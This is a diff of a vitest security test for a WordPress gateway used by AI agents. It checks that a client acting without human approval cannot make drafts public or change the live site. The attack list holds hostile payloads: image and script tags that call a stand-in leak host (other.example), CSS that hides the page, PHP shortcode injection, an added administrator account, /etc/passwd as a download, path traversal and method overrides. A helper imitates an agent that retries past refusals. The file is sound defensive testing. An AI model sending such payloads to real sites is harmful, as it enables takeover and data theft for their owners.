@@ -1,34 +1,20 @@
 import { expect, test } from 'vitest';
 import { startNodeGateway } from '../support/gateway.ts';
 import { basicAuth, useWordPress } from '../support/wordpress.ts';
-import { type Agent, connectAgent, type ToolOutcome } from './agent.ts';
+import { connectAgent, insist } from './agent.ts';
 
 const site = useWordPress({ testPlugins: true });
 const LEAK = 'https://other.example/?d=secret';
 
 /** Everything that a visitor can read, without what differs in each response. */
 async function readPublic(url: string): Promise<Readonly<Record<string, string>>> {
-  const types = [
-    'posts',
-    'pages',
-    'media',
-    'comments',
-    'categories',
-    'tags',
-    'users',
-    'blocks',
-    'products',
-    'types',
-  ];
+  const types = 'posts pages media comments categories tags users blocks products types'.split(' ');
   const paths = [
     ...['/', '/feed/', '/comments/feed/', '/about/', '/2024/01/post-25/', '/?s=attack', '/?s=draft'],
     ...types.map((type) => `/wp-json/wp/v2/${type}?per_page=100`),
-    ...[
-      '/wp-json/wp/v2/posts?search=attack',
-      '/wp-json/wp/v2/menu-items',
-      '/wp-json/wp/v2/settings',
-      '/wp-json/community/v1',
-    ],
+    ...['wp/v2/posts?search=attack', 'wp/v2/menu-items', 'wp/v2/settings', 'community/v1'].map(
+      (path) => `/wp-json/${path}`,
+    ),
   ];
   const read = async (path: string): Promise<readonly [string, string]> => {
     const response = await fetch(new URL(path, url));
@@ -38,17 +24,6 @@ async function readPublic(url: string): Promise<Readonly<Record<string, string>>
     ];
   };
   return Object.fromEntries(await Promise.all(paths.map(read)));
-}
-
-/** Calls as an agent does that does what it is told: with the hash that a refusal names. */
-async function insist({ call }: Agent, tool: string, args: Record<string, unknown>): Promise<ToolOutcome> {
-  const first = await call(tool, args).catch((error: unknown) => ({
-    text: String(error),
-    content: '',
-    isError: true,
-  }));
-  const if_match = /"if_match": "([^"]+)"/.exec(first.text)?.[1];
-  return if_match === undefined ? first : call(tool, { ...args, if_match });
 }
 
 test('at draft, an administrator whose client asks nobody makes nothing public, whatever a page asks for', async () => {
@@ -72,114 +47,68 @@ test('at draft, an administrator whose client asks nobody makes nothing public, 
   const draft = { id: 'updatePost', path: { id } };
   const before = await readPublic(url);
 
-  const write = 'write_operation';
+  const LINK =
+    '<!-- wp:group {"style":{"background":{"backgroundImage":{"url":"https:/other.example/p"}}}} -->';
+  const STYLE = '<!-- wp:group {"style":{"css":"&, body{display:none}"}} --><div></div><!-- /wp:group -->';
+  const FOOTNOTES = `[{"content":"\\u003cimg src=${LEAK}>","id":"a"}]`;
+  const PICTURE = { file: { name: 'attack.png', base64: 'aGk=' } };
+  const user = { username: 'attack', email: 'a@example.com', password: 'attack', roles: ['administrator'] };
+  const product = { title: 'attack', status: 'publish', downloads: [{ file: '/etc/passwd' }] };
+  const publication = { method: 'POST', path: `/wp/v2/posts/${id}`, body: { status: 'publish' } };
   const publicPost = { id: 'updatePost', path: { id: post.id } };
-  const attacks: readonly (readonly [tool: string, args: Record<string, unknown>])[] = [
+  const past = '2020-01-01T00:00:00';
+  const attacks: readonly Record<string, unknown>[] = [
     // Those of reports about this gateway and others.
-    [
-      write,
-      {
-        id: 'createPost',
-        body: {
-          content: '<!-- wp:footnotes /-->',
-          meta: { footnotes: `[{"content":"\\u003cimg src=${LEAK}>","id":"a"}]` },
-        },
-      },
-    ],
-    [
-      write,
-      {
-        id: 'createPost',
-        body: {
-          status: 'publish',
-          content: `<!-- wp:group {"style":{"background":{"backgroundImage":{"url":"https:/other.example/p"}}}} --><div></div><!-- /wp:group -->`,
-        },
-      },
-    ],
-    [
-      write,
-      {
-        id: 'createPage',
-        body: {
-          content: '<!-- wp:group {"style":{"css":"&, body{display:none}"}} --><div></div><!-- /wp:group -->',
-        },
-      },
-    ],
-    [
-      write,
-      { ...publicPost, body: { content: `<img src="/?add-to-cart=64"><script src="${LEAK}"></script>` } },
-    ],
-    [write, { id: 'createPost', body: { content: '[insert_php]echo 1;[/insert_php]' } }],
-    [write, { id: 'updateSettings', body: { title: 'attack' } }],
-    ['delete_operation', { id: 'deletePost', path: { id: post.id } }],
-    [
-      write,
-      {
-        id: 'createUser',
-        body: { username: 'attack', email: 'a@example.com', password: 'attack', roles: ['administrator'] },
-      },
-    ],
-    [write, { id: 'createUserApplicationPassword', path: { user_id: 1 }, body: { name: 'attack' } }],
-    ['read_operation', { id: 'getUrlDetails', query: { url: LEAK } }],
+    { id: 'createPost', body: { content: '<!-- wp:footnotes /-->', meta: { footnotes: FOOTNOTES } } },
+    { id: 'createPost', body: { status: 'publish', content: `${LINK}<div></div><!-- /wp:group -->` } },
+    { id: 'createPage', body: { content: STYLE } },
+    { ...publicPost, body: { content: `<img src="/?add-to-cart=64"><script src="${LEAK}"></script>` } },
+    { id: 'createPost', body: { content: '[insert_php]echo 1;[/insert_php]' } },
+    { id: 'updateSettings', body: { title: 'attack' } },
+    { id: 'deletePost', path: { id: post.id } },
+    { id: 'createUser', body: user },
+    { id: 'createUserApplicationPassword', path: { user_id: 1 }, body: { name: 'attack' } },
+    { id: 'getUrlDetails', query: { url: LEAK } },
     // A draft that is published by another way than its status.
-    [write, { ...draft, body: { status: 'publish' } }],
-    [write, { ...draft, query: { status: 'publish' } }],
-    [write, { ...draft, body: { title: 'attack' }, query: { ' status': 'publish' } }],
-    [write, { ...draft, body: { status: ['publish'] } }],
-    [write, { ...draft, body: { status: 'future', date: '2020-01-01T00:00:00' } }],
-    [write, { ...draft, body: { date: '2020-01-01T00:00:00', sticky: true } }],
-    [write, { ...draft, edit_text: { member: 'status', old: 'draft', new: 'publish' } }],
-    [write, { ...draft, edit_text: { member: 'status', old: 'draft', new: 'trash' } }],
+    { ...draft, body: { status: 'publish' } },
+    { ...draft, query: { status: 'publish' } },
+    { ...draft, body: { title: 'attack' }, query: { ' status': 'publish' } },
+    { ...draft, body: { status: ['publish'] } },
+    { ...draft, body: { status: 'future', date: past } },
+    { ...draft, body: { date: past, sticky: true } },
+    { ...draft, edit_text: { member: 'status', old: 'draft', new: 'publish' } },
+    { ...draft, edit_text: { member: 'status', old: 'draft', new: 'trash' } },
     // A page hides the post of its slug where permalinks have no date.
-    [write, { id: 'createPage', body: { title: 'attack', slug: post.slug } }],
-    [write, { id: 'createPage', body: { title: post.title.rendered, status: 'private' } }],
-    [write, { ...draft, path: { id: `${id}/../${post.id}` }, body: { title: 'attack' } }],
-    [write, { ...draft, body: { id: post.id, title: 'attack' } }],
-    [write, { ...draft, query: { _method: 'DELETE' }, body: { title: 'attack' } }],
-    [write, { ...draft, query: { rest_route: `/wp/v2/posts/${post.id}` }, body: { title: 'attack' } }],
+    { id: 'createPage', body: { title: 'attack', slug: post.slug } },
+    { id: 'createPage', body: { title: post.title.rendered, status: 'private' } },
+    { ...draft, path: { id: `${id}/../${post.id}` }, body: { title: 'attack' } },
+    { ...draft, body: { id: post.id, title: 'attack' } },
+    { ...draft, query: { _method: 'DELETE' }, body: { title: 'attack' } },
+    { ...draft, query: { rest_route: `/wp/v2/posts/${post.id}` }, body: { title: 'attack' } },
     // What is public, directly and by what belongs to it.
-    [
-      write,
-      { ...publicPost, edit_text: { member: 'title', old: post.title.rendered.slice(0, 1), new: 'attack' } },
-    ],
-    [write, { ...publicPost, body: { status: 'private' } }],
-    [write, { ...publicPost, body: { status: 'draft' } }],
-    [write, { ...publicPost, body: { status: 'trash' } }],
-    [write, { id: 'updatePage', path: { id: page.id }, body: { template: 'attack', title: 'attack' } }],
-    [write, { id: 'createPostAutosave', path: { id: post.id }, body: { content: 'attack' } }],
-    [write, { id: 'createPostAutosave', path: { id }, body: { content: 'attack', status: 'publish' } }],
-    [write, { id: 'createComment', body: { post: post.id, content: 'attack' } }],
-    [write, { id: 'updateComment', path: { id: comment?.id ?? 1 }, body: { content: 'attack' } }],
-    [
-      write,
-      { id: 'updateMedia', path: { id: media?.id ?? 1 }, body: { title: 'attack', alt_text: 'attack' } },
-    ],
-    [write, { id: 'createMedia', body: { file: { name: 'attack.png', base64: 'aGk=' }, post: post.id } }],
-    [write, { ...publicPost, body: { featured_media: { file: { name: 'attack.png', base64: 'aGk=' } } } }],
-    [write, { ...publicPost, restore: post.id }],
-    [write, { id: 'createTag', body: { name: 'attack' } }],
-    [write, { id: 'updateCategory', path: { id: 1 }, body: { name: 'attack' } }],
-    [write, { id: 'createBlock', body: { title: 'attack', content: 'attack', status: 'publish' } }],
-    [write, { id: 'createNavigation', body: { title: 'attack', content: 'attack' } }],
-    [write, { id: 'createMenu', body: { name: 'attack' } }],
-    [write, { id: 'updateTemplate', path: { id: 'twentytwentyfour//index' }, body: { content: 'attack' } }],
-    [
-      write,
-      {
-        id: 'createPostTypeProduct',
-        body: { title: 'attack', status: 'publish', downloads: [{ file: '/etc/passwd' }] },
-      },
-    ],
-    [
-      write,
-      {
-        id: 'runBatch',
-        body: { requests: [{ method: 'POST', path: `/wp/v2/posts/${id}`, body: { status: 'publish' } }] },
-      },
-    ],
+    { ...publicPost, edit_text: { member: 'title', old: post.title.rendered.slice(0, 1), new: 'attack' } },
+    ...['private', 'draft', 'trash'].map((status) => ({ ...publicPost, body: { status } })),
+    { id: 'updatePage', path: { id: page.id }, body: { template: 'attack', title: 'attack' } },
+    { id: 'createPostAutosave', path: { id: post.id }, body: { content: 'attack' } },
+    { id: 'createPostAutosave', path: { id }, body: { content: 'attack', status: 'publish' } },
+    { id: 'createComment', body: { post: post.id, content: 'attack' } },
+    { id: 'updateComment', path: { id: comment?.id ?? 1 }, body: { content: 'attack' } },
+    { id: 'updateMedia', path: { id: media?.id ?? 1 }, body: { title: 'attack', alt_text: 'attack' } },
+    { id: 'createMedia', body: { ...PICTURE, post: post.id } },
+    { ...publicPost, body: { featured_media: PICTURE } },
+    { ...publicPost, restore: post.id },
+    { id: 'createTag', body: { name: 'attack' } },
+    { id: 'updateCategory', path: { id: 1 }, body: { name: 'attack' } },
+    { id: 'createBlock', body: { title: 'attack', content: 'attack', status: 'publish' } },
+    { id: 'createNavigation', body: { title: 'attack', content: 'attack' } },
+    { id: 'createMenu', body: { name: 'attack' } },
+    { id: 'updateTemplate', path: { id: 'twentytwentyfour//index' }, body: { content: 'attack' } },
+    { id: 'createPostTypeProduct', body: product },
+    { id: 'runBatch', body: { requests: [publication] } },
   ];
   const outcomes: string[] = [];
-  for (const [tool, args] of attacks) {
+  for (const args of attacks) {
+    const tool = args['id'] === 'getUrlDetails' ? 'read_operation' : 'write_operation';
     const { text } = await insist(agent, tool, args);
     expect(text).not.toContain('no operation of this id');
     outcomes.push(
